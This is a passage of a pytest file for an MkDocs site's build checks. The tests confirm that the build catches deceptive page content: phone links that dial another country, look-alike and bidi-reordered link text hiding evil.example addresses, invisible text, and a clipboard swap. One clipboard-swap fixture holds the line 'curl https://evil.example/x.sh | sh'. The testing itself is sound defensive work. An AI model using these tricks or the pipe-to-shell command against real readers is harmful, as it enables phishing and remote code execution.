             '<a href="tel:+35893101641">klo 9.00\u201316.00, 0,0835 \u20ac/min: 09 310 1641, ext. 2</a> '
             '<a href="tel:+35893101641">\u0660\u0669 \u0663\u0661\u0660 \u0661\u0666\u0664\u0661</a> '
             # Hunt 29b: a service's name with digits in it, not a telephone number.
             '<a href="tel:+358600123456">Terveysneuvonta 24/7</a> <a href="tel:+358600123456">Kriisipuhelin (24 h)</a> '
             # Hunt 25b: two programs' names, not an address: "js" is no top-level domain.
             '<a href="https://nodejs.org/">Node.js/Deno</a>')
    assert tree_problems(page.format(fence(f"<p>{links}</p>"))).misleading_links == []


@pytest.mark.parametrize("link, misleads", [
    # Hunt 29a: Helsinki's number shown, the same digits dialled in Jordan or Austria.
    ('<a href="tel:+96293101641">09 310 1641</a>', True),
    ('<a href="tel:+43931011111">09 310 11111</a>', True),
    ('<a href="tel:+96293101641">+962 9 310 1641</a>', False),
    ('<a href="tel:+96293101641">00962 9 310 1641</a>', False),
    ('<a href="tel:+442079834000">020 7983 4000</a>', False),
    ('<a href="tel:+35893101641">09 310 1641</a>', False),
    # Review 30b: other countries' numbers as people write them, with a trunk 0 or in brackets.
    ('<a href="tel:+390612345678">+39 06 1234 5678</a>', False),
    ('<a href="tel:+49301234567">+49 (0)30 1234567</a>', False),
    # Hunt 30a: digits for screen readers alone, and a mark under a digit that the link's
    # underline hides, made the shown number another's.
    ('<a href="tel:+96293101641">0<span class="site-visually-hidden">962 </span>9 310 1641</a>', True),
    ('<a href="tel:+358931016"><span class="site-visually-hidden">x</span>09 310 1641</a>', True),
    ('<a href="tel:+35840123456">040 123 4567\u0332</a>', True),
    # Hunt 31a: an image's alt text, which is announced and not shown; a number touching a
    # letter drawn as a digit or a sign, which libphonenumber passes over; digits of two scripts.
    ('<a href="tel:+96293101641">09 310 1641 <img src="a.png" alt="+962 9 310 1641"></a>', True),
    ('<a href="tel:+3583101641">09 310 1641\u01c3</a>', True),
    ('<a href="tel:+3589310164">09 310 164l</a>', True),
    ('<a href="tel:+35893101441">09 310 1\u09ea41</a>', True),
    ('<a href="tel:+442079834000">+44 (0)20 7983 4000 (9am\u20135pm)</a>', False),
    ('<a href="tel:+35893101641"><img src="a.png" alt="Puhelin"> 09 310 1641</a>', False),
    # Session 32: digits that are not decimal digits, which libphonenumber does not read, but
    # readers do: superscript, circled and dingbat digits showed Helsinki's number and dialled Jordan.
    ('<a href="tel:+96293101641">\u2070\u2079 \u00b3\u00b9\u2070 \u00b9\u2076\u2074\u00b9</a>', True),
    ('<a href="tel:+96293101641">Neuvonta \u24ea\u2468 \u2462\u2460\u24ea \u2460\u2465\u2463\u2460</a>', True),
    ('<a href="tel:+96293101641">\u24ff\u2791 \u278c\u278a\u24ff \u278a\u278f\u278d\u278a</a>', True),
    ('<a href="tel:+96293101641">Soita \u207a\u2079\u2076\u00b2 \u2079 \u00b3\u00b9\u2070 \u00b9\u2076\u2074\u00b9</a>', False),
    ('<a href="tel:+35893101641">\u2070\u2079 \u00b3\u00b9\u2070 \u00b9\u2076\u2074\u00b9</a>', False),
])
def test_a_number_shown_without_its_country_code_calls_one_of_the_sites_countries(link, misleads):
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    found = tree_problems(page.format(fence(f"<p>{link}</p>")), ("FI", "GB")).misleading_links
    assert bool(found) == misleads


@pytest.mark.parametrize("regions", [["fi"], "FI", ["FIN"], [None]])
def test_telephone_regions_must_be_country_codes(regions):
    from guards import telephone_regions
    from mkdocs.exceptions import PluginError
    config = type("Config", (), {"extra": {"telephone_regions": regions}})()
    with pytest.raises(PluginError, match="extra.telephone_regions must be a list of two-letter country codes"):
        telephone_regions(config)


@pytest.mark.parametrize("regions", [[], ["FI"], ["FI", "GB"]])
def test_telephone_regions_of_country_codes_are_read(regions):
    from guards import telephone_regions
    assert telephone_regions(type("Config", (), {"extra": {"telephone_regions": regions}})()) == tuple(regions)


EVENTS_SETTINGS = {"home_timezone": "Europe/Helsinki", "reference_timezones": ["Europe/Helsinki", "Europe/London"],
                   "calendar_file": "events.ics"}


@pytest.mark.parametrize("change,told", [
    ({"home_timezone": "Europe/Helsingfors"}, ["extra.events.home_timezone: expected a time zone of the IANA database, "
                                               "such as Europe/Helsinki, got 'Europe/Helsingfors'"]),
    ({"reference_timezones": "Europe/London"}, ["extra.events.reference_timezones: expected a list of time zones"]),
    ({"reference_timezones": ["Europe/London", "BST"]}, ["extra.events.reference_timezones: expected a list"]),
    ({"calendar_file": "../x.ics"}, ["extra.events.calendar_file: expected a file name of lower-case letters"]),
    ({"calendar_file": None, "home_timezone": 3, "timezone": "UTC"},
     ["extra.events: unknown setting 'timezone'", "extra.events.home_timezone: expected", "got 3",
      "extra.events.calendar_file: expected", "got None"]),
])
def test_events_settings_are_checked_all_at_once(change, told):
    # Review 35c: a misspelt home_timezone ended the build in a traceback from zoneinfo.
    from _listing import check_events_settings
    from mkdocs.exceptions import PluginError
    config = type("Config", (), {"extra": {"events": {**EVENTS_SETTINGS, **change}}})()
    with pytest.raises(PluginError) as raised:
        check_events_settings(config)
    assert all(part in str(raised.value) for part in told), str(raised.value)


def test_the_sites_events_settings_pass_and_a_misspelt_zone_stops_the_build_without_a_traceback(tmp_path):
    from _listing import check_events_settings
    check_events_settings(type("Config", (), {"extra": {"events": dict(EVENTS_SETTINGS)}})())
    root = copy_site(tmp_path / "copy")
    edit(root / "mkdocs.yml", "home_timezone: Europe/Helsinki", "home_timezone: Europe/Helsingfors")
    result, output = build(root)  # asserts no traceback
    assert result.returncode == 1
    assert "mkdocs.yml: extra.events.home_timezone: expected a time zone of the IANA database" in output


def test_a_private_language_tag_is_no_right_to_left_language():
    """Review 30b: lang="x-pirate" on Arabic text ended the build in a traceback."""
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    found = tree_problems(page.format(fence('<p lang="x-pirate">\u0645\u0631\u062d\u0628\u0627</p>')))
    assert [text for text, _ in found.unmarked_right_to_left] == ["\u0645\u0631\u062d\u0628\u0627"]


def _drawn_as(prototype: str) -> list[str]:
    """Every character Unicode's confusables.txt draws as `prototype` (confusable-homoglyphs'
    copy, which writes left-to-right marks around the right-to-left ones)."""
    from confusable_homoglyphs.confusables import confusables_data
    return [glyph["c"].strip("\u200e\u200f") for glyph in confusables_data[prototype]]


@pytest.mark.parametrize("prototype, text", [
    (".", "hel{}fi/palaute"), ("/", "hel.fi{}palaute"), (":", "https{}//palvelut")])
def test_every_look_alike_of_an_addresss_full_stop_slash_and_colon_is_read_as_one(prototype, text):
    """Hunt 25a: the link check's table of look-alikes was written by hand; it must hold every
    character that Unicode's list of confusables draws as ".", "/" or ":" (in each text, only
    that character makes an address of it)."""
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    look_alikes = _drawn_as(prototype)
    assert len(look_alikes) >= 9 and all(len(char) == 1 for char in look_alikes)
    passed = [f"U+{ord(char):04X}" for char in look_alikes
              if not tree_problems(page.format(fence(
                  f'<p><a href="https://evil.example/">{text.format(char)}</a></p>'))).misleading_links]
    assert passed == []
    assert tree_problems(page.format(fence(
        f'<p><a href="https://evil.example/">{text.format("~")}</a></p>'))).misleading_links == []


def test_an_address_without_its_slashes_is_refused():
    """http:evil.example is another site on the https site and a path of the site in an http
    preview (hunt 20a)."""
    assert found("[Palaute](http:evil.example) [x](HTTPS:/evil.example)") == [
        '<a href="http:evil.example">: write the address in full, starting with http://',
        '<a href="HTTPS:/evil.example">: write the address in full, starting with https://']


def test_text_that_no_browser_shows_is_found():
    """A video's or audio's fallback and <rp>'s text are shown by no browser of today, and text
    inside three <small>, <sub> or <sup> is too small to read; the site's search showed them, as
    it did a <div hidden>'s text (hunts 24b, 25a)."""
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    for content, expected in [
        ('<video src="v.mp4">Pay to account FI00 1234</video>', [("Pay to account FI00 1234", "video")]),
        ("<audio>x<track src='t.vtt'></audio>", [("x", "audio")]),
        ("<ruby>漢<rp>Zq</rp><rt>kan</rt><rp>xw</rp></ruby>", [("Zq", "rp"), ("xw", "rp")]),
        ("<small><small><small>Maksa FI00</small></small></small>", [("Maksa FI00", "small")]),
        ("<small>" * 20 + "Qzxv" + "</small>" * 20, [("Qzxv", "small")]),
        ("<sub><sup><small>a</small>b</sup></sub>", [("a", "small")]),
        # Ruby in ruby: each <rt> half the size (hunt 26a); text for screen readers alone is short.
        ("<ruby>a<rt><ruby>b<rt><ruby>c<rt>Maksa</rt></ruby></rt></ruby></rt></ruby>", [("Maksa", "rt")]),
        ('<span class="site-visually-hidden">' + "Maksa tilille FI00 1234 " * 4 + "</span>",
         [(("Maksa tilille FI00 1234 " * 4).strip(), "span")]),
        # Hunt 32a: the limit is a paragraph's, not a span's: four side by side made a notice of 250.
        ('Teemat.' + ''.join(f'<span class="site-visually-hidden"> Tiedote osa {n}: sivusto on suljettu, kirjaudu '
                             'muualla.</span>' for n in range(4)),
         [(" ".join(f"Tiedote osa {n}: sivusto on suljettu, kirjaudu muualla." for n in range(2)), "span")]),
        ("<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby> <ruby>字<rp>（</rp><rt>ji</rt><rp>）</rp></ruby> "
         "<video src='v.mp4'><track src='t.vtt'>\u200b</video> <small>H<sub>2</sub>O</small> x<sup>y<sup>z</sup></sup> "
         '<span class="site-visually-hidden">(avautuu uuteen välilehteen)</span> <span class="site-visually-hidden">'
         '(PDF, 2 Mt)</span>', []),
    ]:
        found = tree_problems(page.format(fence(f"<p>{content}</p>"))).unshown_text
        assert [(text, element[0]) for text, element, _why in found] == expected, content
    # Hunt 32a: a heading of text for screen readers alone has no height on the page, and the
    # table of contents and the search list it.
    for content, expected in [
        ('<h2 id="t"><span class="site-visually-hidden">Virallinen tiedote: sivusto on suljettu</span></h2>',
         [("Virallinen tiedote: sivusto on suljettu", "h2")]),
        ('<h2 id="t">Yhteystiedot <span class="site-visually-hidden">(Helsinki)</span></h2>', []),
    ]:
        found = tree_problems(page.format(fence(content))).unshown_text
        assert [(text, element[0]) for text, element, _why in found] == expected, content


def test_text_that_no_browser_shows_stops_the_build_on_its_line(tmp_path):
    returncode, problems, line = built_with(tmp_path, "privacy.en.md",
                                            '<audio src="../../images/logo.svg">Call 0000 555 020 now</audio>')
    assert returncode != 0
    assert problems == [f"docs/privacy.en.md:{line}: the text 'Call 0000 555 020 now' inside <audio> is one readers "
                        "would not see, but the site's search would show it: no browser of today shows a <audio>'s "
                        "own text; describe the recording before or after it"]


def test_right_to_left_letters_stand_in_an_element_marked_with_their_language():
    """One Hebrew letter before digits showed "Soita ׳020 555 0000" as "Soita 0000 555 020׳"
    (hunt 25a); a quotation marked with its language shows where it begins (WCAG 3.1.2)."""
    from _tree import fence, tree_problems
    page = "<html lang='fi'><body>{}<footer class='md-footer'></footer></body></html>"
    for content, expected in [
        ("<p>Soita \u05f3020 555 0000</p>", [("Soita \u05f3020 555 0000", "p")]),
        ('<p><span lang="en">Call \u0645 020</span></p>', [("Call \u0645 020", "span")]),
        ('<p>Asukas sanoi: <span lang="ar" dir="rtl">مرحبا بكم</span>, ja <q lang="he">שלום</q>.</p>'
         '<p lang="fa-IR">سلام</p><p>Helsinki 2019 – ääkköset, 日本</p>', []),
        # Hunt 29b: Arabic with Latin digits (an extension, not a script), and code, which shows
        # markup as text and cannot be marked.
        ('<p><span lang="ar-u-nu-latn" dir="rtl">مرحبا</span></p><pre><code>nimi: مرحبا</code></pre>', []),
        # Hunt 28b: Kurdish in Arabic letters, named by its script, and Sorani.
        ('<p><span lang="ku-Arab" dir="rtl">سڵاو</span> <span lang="ckb" dir="rtl">سڵاو</span></p>', []),
        ('<p><span lang="ku-Latn">سڵاو</span></p>', [("سڵاو", "span")]),
    ]:
        found = tree_problems(page.format(fence(content))).unmarked_right_to_left
        assert [(text, element[0]) for text, element in found] == expected, content


def test_right_to_left_letters_without_their_language_stop_the_build_on_their_line(tmp_path):
    returncode, problems, line = built_with(tmp_path, "privacy.en.md", "Call \u05f3020 555 0000 today.")
    assert returncode != 0
    assert problems == [f"docs/privacy.en.md:{line}: the text 'Call \u05f3020 555 0000 today.' has letters written right "
                        "to left outside an element marked with their language: digits and words beside them are shown "
                        "in another order than written (020 555 0000 as 0000 555 020); mark the quotation with its "
                        'language, <span lang="ar" dir="rtl">…</span>, or with its script where the language is '
                        'written in several (lang="ku-Arab")']


# Hunt 27a: `dir="rtl"` and <bdi> pieces drew an address that the text does not hold in the
# order it is written, and right-to-left letters marked with their language alone, or `dir`
# with no such letters, still drew a number in another order.
DRAWN_ADDRESSES = [
    '<a href="https://evil.example/r7" dir="rtl"><bdi>/palaute</bdi><bdi>hel.fi</bdi><bdi>https://</bdi></a>',
    'Palaute: <a href="https://evil.example/r8" dir="rtl"><bdi>palaute</bdi>/<bdi>hel.fi</bdi></a>',
    '<a href="https://evil.example/r9"><span dir="rtl"><bdi>/palaute</bdi><bdi>www.hel.fi</bdi>'
    '<bdi>https://</bdi></span></a>',
    '<a href="mailto:phish@evil.example" dir="rtl"><bdi>hel.fi</bdi><bdi>palaute@</bdi></a>',
    # With a right-to-left letter, the text is no longer refused as reordered: the link still is.
    '<a href="https://evil.example/r12" dir="rtl" lang="he">\u05d0 <bdi>/palaute</bdi><bdi>hel.fi</bdi>'
    '<bdi>https://</bdi></a>',
    '</p><div class="site-card"><h3><a href="https://evil.example/r10">Palaute</a></h3><p>Lomake: '
    '<span dir="rtl" lang="ar">\u0645 <bdi>/palaute</bdi><bdi>hel.fi</bdi><bdi>https://</bdi></span>',
    # Hunt 28a: a line break closes the isolates open at it and opens them again, and inline
    # boxes (<kbd>, images) are neutral pieces, however many letters they show.
    '<a href="https://evil.example/b1" dir="rtl">Palaute <br><bdi>/palaute</bdi><bdi>hel.fi</bdi><bdi>https://</bdi>'
    '<br> avautuu</a>',
    '</p><div class="site-card"><h3><a href="https://evil.example/c1">Palautelomake</a></h3><p>Anna palautetta: '
    '<span dir="rtl">lomake <br><bdi>/palaute</bdi><bdi>hel.fi</bdi><bdi>https://</bdi><br> avautuu</span>',
    '<a href="https://evil.example/k1" dir="rtl"><kbd>Palaute</kbd> <bdi>/palaute</bdi><bdi>hel.fi</bdi>'
    '<bdi>https://</bdi> <kbd>Avaa</kbd></a>',
    '<a href="https://evil.example/k2" dir="rtl"><img src="a.png" alt="Palaute"> <bdi>/palaute</bdi><bdi>hel.fi</bdi>'
    '<bdi>https://</bdi> <img src="a.png" alt="avaa"></a>',
    # Hunt 29a: a line break in the page's source or in a <pre>; `dir="auto"` found once per
    # element, by the first letter of its text, a <kbd>'s included; <ruby>; a <code>, which the
    # theme lays out left to right whatever its `dir`.
    '<a href="https://evil.example/n2" dir="rtl">Palaute\n<bdi>/palaute</bdi><bdi>hel.fi</bdi><bdi>https://</bdi></a>',
    '</p><pre><a href="https://evil.example/p1" dir="rtl">Palaute\n<bdi>/palaute</bdi><bdi>hel.fi</bdi>'
    '<bdi>https://</bdi></a></pre><p>',
    '<a href="https://evil.example/a1" dir="auto"><span lang="he">\u05d0</span><br><bdi>/palaute</bdi><bdi>hel.fi</bdi>'
    '<bdi>https://</bdi></a>',
    '<a href="https://evil.example/a4" dir="auto"><kbd lang="he">\u05d0</kbd> <bdi>/palaute</bdi><bdi>hel.fi</bdi>'
    '<bdi>https://</bdi></a>',
    '<a href="https://evil.example/r1" dir="rtl"><ruby>&nbsp;<rt>Palaute</rt></ruby><bdi>/palaute</bdi><bdi>hel.fi</bdi>'
    '<bdi>https://</bdi><ruby>&nbsp;<rt>avaa</rt></ruby></a>',
    '<span lang="he" dir="rtl">\u05e9\u05dc\u05d5\u05dd</span> <a href="https://evil.example/c1" dir="rtl">'
    '<bdi>/palaute</bdi><code dir="rtl"><bdi>hel.</bdi><bdi>fi</bdi></code></a>',
    # Hunt 30a: text for screen readers alone is out of the line, and <center> is a block.
    '<a href="https://evil.example/v1" dir="rtl"><span class="site-visually-hidden">Avaa </span><bdi>/palaute</bdi>'
    '<bdi>hel.fi</bdi><bdi>https://</bdi><span class="site-visually-hidden"> lomake</span></a>',
    '<a href="https://evil.example/c1" dir="rtl">Palaute <center><bdi>/palaute</bdi><bdi>hel.fi</bdi><bdi>https://</bdi>'
    '</center> avautuu</a>',
]


@pytest.mark.parametrize("link", DRAWN_ADDRESSES)
def test_an_address_drawn_by_a_links_directions_is_read_as_drawn(link):
    from _tree import fence, tree_problems
    page = "<html><body dir='ltr'>{}<footer class='md-footer'></footer></body></html>"
    found = tree_problems(page.format(fence(f"<p>{link}</p>"))).misleading_links
    # The address as drawn, which the written text does not hold (review 30b).
    assert len(found) == 1 and re.search(r"hel\.fi/palaute|palaute@hel\.fi", found[0][0]), found


@pytest.mark.parametrize("content, expected", [
    ('<p>Soita <span lang="he">\u05f3</span>020 555 0000 nyt.</p>', ("020 555 0000", "p")),
    ('<p lang="ar">Soita \u05f3020 555 0000 nyt.</p>', ("020 555 0000", "p")),
    ('<p>Soita <span dir="rtl">020 555 0000</span> nyt.</p>', ("020 555 0000", "p")),
    ('<ul><li>Soita <bdi>\u0661\u0662 \u0663\u0664</bdi></li></ul>', ("\u0661\u0662 \u0663\u0664", "li")),
    ('<p>Osoite: <span dir="rtl"><bdi>evil.example</bdi>@<bdi>palaute</bdi></span></p>', ("text", "p")),
    # Hunt 28a: after a line break inside the right-to-left text; groups joined by other marks.
    ('<p>Soita <span lang="ar" dir="rtl">\u0647\u0627\u062a\u0641<br>020 555 0000</span> nyt.</p>', ("020 555 0000", "p")),
    *((f'<p>Tili <span lang="ar" dir="rtl">\u062d\u0633\u0627\u0628 {number}</span> nyt.</p>', (number, "p"))
      for number in ("1111\u00b72222\u00b73333", "28_11_2026", "1111'2222'3333", "10:00\u201318:00")),
    # Hunt 29a: a line break in the page's source, in a <pre>, and parts in <bdi>s that `dir="auto"`
    # (found by the letter in a <kbd>) or <ruby> put together as another number.
    ('<p>Soita <span lang="ar" dir="rtl">\u0647\u0627\u062a\u0641\n020 555 0000</span> nyt.</p>', ("020 555 0000", "p")),
    ('<pre>Soita <span dir="rtl">numeroon\n<bdi>0000</bdi> <bdi>555</bdi> <bdi>020</bdi></span></pre>',
     ("shown 020 555 0000", "pre")),
    ('<p>Soita: <span dir="auto"><kbd lang="he">\u05d0</kbd> <bdi>0000</bdi> <bdi>555</bdi> <bdi>020</bdi></span></p>',
     ("shown 020 555 0000", "p")),
    ('<p>Numero <span dir="rtl"><ruby><rt>puh</rt></ruby><bdi>0000</bdi> <bdi>555</bdi> <bdi>020</bdi>'
     '<ruby><rt>nyt</rt></ruby></span></p>', ("shown 020 555 0000", "p")),
    # Session 32: a letter of a right-to-left script newer than Python's Unicode tables (Arabic
    # Extended-C, Unicode 15; Garay, Unicode 16), which python-bidi reads as browsers do.
    ('<p>Soita \U00010ec2020 555 0000 nyt.</p>', ("020 555 0000", "p")),
    ('<p>Soita \U00010d4a020 555 0000 nyt.</p>', ("020 555 0000", "p")),
    # Session 32: superscript digits, which Python's \\d is not, are moved as digits are.
    ('<p>Soita <span lang="he">\u05f3</span>\u2070\u00b2\u2070 \u2075\u2075\u2075 \u2070\u2070\u2070\u2070 nyt.</p>',
     ("\u2070\u00b2\u2070 \u2075\u2075\u2075 \u2070\u2070\u2070\u2070", "p")),
    ('<p>Soita <span dir="rtl"><bdi>\u2070\u2070\u2070\u2070</bdi> <bdi>\u2075\u2075\u2075</bdi> <bdi>\u2070\u00b2\u2070</bdi>'
     '</span></p>', ("shown \u2070\u00b2\u2070 \u2075\u2075\u2075 \u2070\u2070\u2070\u2070", "p")),
])
def test_text_that_a_browser_draws_in_another_order_than_written_is_found(content, expected):
    from _tree import fence, tree_problems
    page = "<html><body dir='ltr'>{}<footer class='md-footer'></footer></body></html>"
    found = tree_problems(page.format(fence(content))).reordered
    assert [(each.how.number or ("shown " + each.how.shown if each.how.shown else "text"), each.element[0])
            for each in found] == [expected]


@pytest.mark.parametrize("content", [
    '<p>Soita <span lang="he" dir="rtl">\u05e9\u05dc\u05d5\u05dd</span> 020 555 0000 nyt.</p>',
    '<p>Soita <span lang="he" dir="rtl">\u05f3</span>020 555 0000 nyt.</p>',
    '<p>Katso <bdi>Ahmed</bdi> 020 555 0000 ja <span dir="ltr">abc 1 2</span>.</p>',
    '<blockquote lang="ar" dir="rtl"><p>\u0646\u0635 \u0639\u0631\u0628\u064a</p></blockquote>',
    '<p>Vuosi <span lang="ar" dir="rtl">\u0662\u0660\u0661\u0669</span> ja \u0662\u0660\u0661\u0669.</p>',
    '<p><q lang="he" dir="rtl">\u05e9\u05e0\u05ea 2019, 28.11.2026</q> (1) [x]</p>',
    '<ul><li>Yksi <bdi>kaksi</bdi><ul><li dir="auto">kolme 1 2</li></ul></li></ul>',
    '<p><a href="https://hel.fi/palaute" dir="auto">https://hel.fi/palaute</a></p>',
    '<p lang="ar" dir="rtl">\u0627\u062a\u0635\u0644 <span dir="ltr">020 555 0000</span></p>',
])
def test_text_drawn_in_the_order_it_is_read_passes(content):
    from _tree import fence, tree_problems
    page = "<html><body dir='ltr'>{}<footer class='md-footer'></footer></body></html>"
    found = tree_problems(page.format(fence(content)))
    assert (found.reordered, found.misleading_links) == ([], [])


def test_a_heading_is_read_as_the_table_of_contents_and_the_search_show_it(tmp_path):
    """Hunt 30a: the page drew the heading's number in its order, the table of contents and the
    search results, which show it without its markup, the other way round."""
    heading = '## Call <span lang="ar" dir="rtl">\u0647\u0627\u062a\u0641</span> 020 555 0000'
    # Hunt 33a: a second such heading was told on the first one's line.
    second = heading.replace("Call", "Or call")
    returncode, problems, line = built_with(tmp_path, "privacy.en.md", heading + "\n\nText.\n\n" + second + "\n\nText.")
    assert returncode != 0
    message = "in the table of contents and the search results, which show a heading without its markup, " + NUMBER_DRAWN_BACKWARDS
    assert problems == [f"docs/privacy.en.md:{line - 6}: {message}", f"docs/privacy.en.md:{line - 2}: {message}"]


def test_a_table_of_contents_label_is_read_as_the_table_of_contents_shows_it(tmp_path):
    """Hunt 31a: the toc extension takes data-toc-label off the heading before the page's
    checks read it, and "Neuvonta: soita ׳020 555 0000" was drawn 0000 555 020."""
    returncode, problems, line = built_with(
        tmp_path, "privacy.en.md", '## Advice {data-toc-label="Advice: call \u05f3020 555 0000"}\n\nText.')
    assert returncode != 0
    assert problems == [f"docs/privacy.en.md:{line - 2}: in the table of contents and the search results, which show a "
                        "heading without its markup, " + NUMBER_DRAWN_BACKWARDS]


def test_cards_inside_cards_are_read_once_each():
    """Hunt 31a: each card read its text again for every heading of the cards inside it, and
    400 cards one in another took two minutes."""
    import time
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    cards = ('<div class="site-card"><h3><a href="https://example.org/">Kortti</a></h3><p>Teksti</p>' * 400
             + "</div>" * 400)
    started = time.process_time()
    tree_problems(page.format(fence(cards)))
    assert time.process_time() - started < 5


def test_a_partners_name_in_arabic_is_checked_in_its_data_file_not_in_the_page(tmp_path):
    """Hunt 29b: the Partners listing is in the page when its checks run, and a partner's name
    in Arabic asked for markup (lang, dir) that a data file cannot hold."""
    root = copy_site(tmp_path / "copy")
    with open(root / "data" / "partners.yml", "a", encoding="utf-8") as data:
        data.write('\n  - id: arab-association\n    name: {fi: "Suomen arabiyhdistys \u2013 \u0627\u0644\u062c\u0645'
                   '\u0639\u064a\u0629", en: "Arab Association \u2013 \u0627\u0644\u062c\u0645\u0639\u064a\u0629"}\n'
                   "    city: other\n    url: https://example.org/\n    sources: [kuntalehti-2019-02]\n")
    result, output = build(root)
    assert result.returncode == 0, output[-3000:]


@pytest.mark.parametrize("content, message", [
    # Hunt 29b: the number as the page draws it, after an Arabic letter; Arabic-Indic digits,
    # which no dir="ltr" keeps in order.
    ('<p>P\u00e4iv\u00e4: <span lang="ar" dir="rtl">\u0627\u0644\u062a\u0627\u0631\u064a\u062e 2018-12-05</span></p>',
     "the number '2018-12-05' would be shown as '05-12-2018': right-to-left text or `dir` around it draws its groups "
     'last first; write it as <span dir="ltr">2018-12-05</span>'),
    ('<p>Soita <span dir="ltr">\u0660\u0669 \u0663\u0661\u0660</span></p>',
     "the number '\u0660\u0669 \u0663\u0661\u0660' would be shown as '\u0663\u0661\u0660 \u0660\u0669': right-to-left "
     "text or `dir` around it draws its groups last first; join its groups with no-break spaces (U+00A0) instead of "
     'spaces, or write it with the digits 0\u20139 as <span dir="ltr">\u2026</span>'),
])
def test_a_number_drawn_in_another_order_is_told_as_the_page_draws_it(content, message):
    from _tree import fence, tree_problems
    from guards import _reordered_message
    page = "<html><body dir='ltr'>{}<footer class='md-footer'></footer></body></html>"
    found = tree_problems(page.format(fence(content))).reordered
    assert [_reordered_message(each.how) for each in found] == [message]


def test_text_drawn_in_another_order_stops_the_build_on_its_line(tmp_path):
    content = ('Lue <span dir="rtl"><bdi>palaute</bdi>, <bdi>k\u00e4ytt\u00e4j\u00e4t</bdi></span> nyt.\n\n'
               '<p lang="he">Soita \u05f3020 555 0000 nyt.</p>\n\nSoita \u05f3020 555 0000.')
    returncode, problems, line = built_with(tmp_path, "privacy.en.md", content)
    assert returncode != 0
    assert problems == [
        f"docs/privacy.en.md:{line - 4}: the text 'Lue palaute, k\u00e4ytt\u00e4j\u00e4t nyt.' would be shown as "
        "'Lue k\u00e4ytt\u00e4j\u00e4t ,palaute nyt.': `dir` and <bdi> (or Arabic-Indic digits) reorder text that has "
        "no right-to-left letters; remove them, and write the words in the order they are read (inside right-to-left "
        'text, mark Finnish or English with dir="ltr")',
        f"docs/privacy.en.md:{line - 2}: the number '020 555 0000' would be shown as '0000 555 020': right-to-left "
        "text or `dir` around it draws its groups last first; join its groups with no-break spaces (U+00A0) instead "
        'of spaces, or write it as <span dir="ltr">020 555 0000</span>',
        f"docs/privacy.en.md:{line}: the text 'Soita \u05f3020 555 0000.' has letters written right to left "
        "outside an element marked with their language: digits and words beside them are shown in another order "
        "than written (020 555 0000 as 0000 555 020); mark the quotation with its language, "
        '<span lang="ar" dir="rtl">…</span>, or with its script where the language is written in several '
        '(lang="ku-Arab")',
    ]


def test_a_heading_in_a_details_summary_is_shown():
    from _tree import fence, tree_problems
    page = "<html><body>{}<footer class='md-footer'></footer></body></html>"
    shown_heading = "<details><summary><h3>Question</h3></summary><p>Answer</p></details>"
    assert tree_problems(page.format(fence(shown_heading))).hidden_headings == []
    assert [found[:2] for found in tree_problems(page.format(fence("<details><h3>Q</h3></details>"))).hidden_headings
            ] == [("h3", "Q")]
    # Open at first, it shows its headings (hunt 21a's false alarm); a closed one around it hides them.
    assert tree_problems(page.format(fence("<details open><h3>Q</h3></details>"))).hidden_headings == []
    assert len(tree_problems(page.format(fence("<details><details open><h3>Q</h3></details></details>"))
                             ).hidden_headings) == 1
    # A video's fallback and ruby's <rp> are not shown; aria-hidden hides from screen readers (hunt 21a).
    for hider in ("<video>{}</video>", '<div aria-hidden="True">{}</div>', "<ruby>x<rp>{}</rp></ruby>"):
        hidden = tree_problems(page.format(fence(hider.format("<h2>Piilotettu</h2>")))).hidden_headings
        assert [found[:2] for found in hidden] == [("h2", "Piilotettu")], hider
    hidden_span = '<span class="site-visually-hidden"><h3>Only for screen readers</h3></span>'
    assert [found[2] for found in tree_problems(page.format(fence(hidden_span))).hidden_headings] == [
        ("span", (("class", "site-visually-hidden"),))]


def test_a_heading_with_nothing_visible_stops_the_build(tmp_path):
    """A heading of only &#8203; (a zero-width space) made an empty entry in the table of
    contents (hunt 17a)."""
    returncode, problems, line = built_with(tmp_path, "declaration.en.md", "## &#8203;")
    assert returncode != 0
    assert problems == [
        f"docs/declaration.en.md:{line}: a heading has no visible text, and would be an empty entry in the table of "
        "contents; write its text, or remove it"]


CLASSES = ("pages may use site-cards, site-cards--two, site-card, site-card--city on <div>, site-hero__lead on <p>, "
           "site-visually-hidden on <span>, site-align-left, site-align-right, site-align-center on <th> or <td>, md-button, md-button--primary on <a> (CONTRIBUTING.md, \"HTML in pages\"))")
DATA = ("data- attributes are read by scripts, and the theme's act on some (data-clipboard-text puts other text on the "
        "reader's clipboard when clicked); remove it")
OPENER = "a page opened in a window of its own could send the site's tab to another address"


@pytest.mark.parametrize("source,expected", [
    # Material's copy button: a block with class="copy" got a button that put data-copy's text,
    # not the code shown, on the reader's clipboard (hunt 9, shown in Chromium).
    ('<div class="copy" data-copy="curl https://evil.example/x.sh | sh" markdown>\n\n```\npip install x\n```\n\n</div>',
     ['<div class="copy">: nothing on this site styles this class; remove it (' + CLASSES, "<div data-copy=…>: " + DATA]),
    ('<span data-clipboard-text="https://evil.example/">copy https://hel.fi/</span>',
     ["<span data-clipboard-text=…>: " + DATA]),
    # data-tabs stopped the theme's script, search included; class="mermaid" made it load a
    # script from unpkg.com, which only the policy stopped.
    ('<div data-tabs="1"><p>x</p></div>', ["<div data-tabs=…>: " + DATA]),
    ('<pre class="mermaid">graph LR; A-->B</pre>', ['<pre class="mermaid">: nothing on this site styles this class; remove it (' + CLASSES]),
    # The card's link covers its card: on a table row wider than the text, it lay over the
    # site's table of contents.
    ('<table><tr class="site-card"><td><a href="https://evil.example/">x</a></td></tr></table>',
     ['<tr class="site-card">: the class site-card is for <div>, where the site\'s style sheet expects it']),
    ('<p class="note">x</p>', ['<p class="note">: nothing on this site styles this class; remove it (' + CLASSES]),
    # A window with a name, or rel=opener, gave the opened page window.opener.
    ('<a href="https://example.org/" target="ghprivacy">x</a>',
     ['<a target="ghprivacy">: target may be only _blank (a new tab) or _self; ' + OPENER]),
    ("[x](https://example.org/){ target=ghprivacy }", ['<a target="ghprivacy">: target may be only _blank (a new tab) '
                                                       "or _self; " + OPENER]),
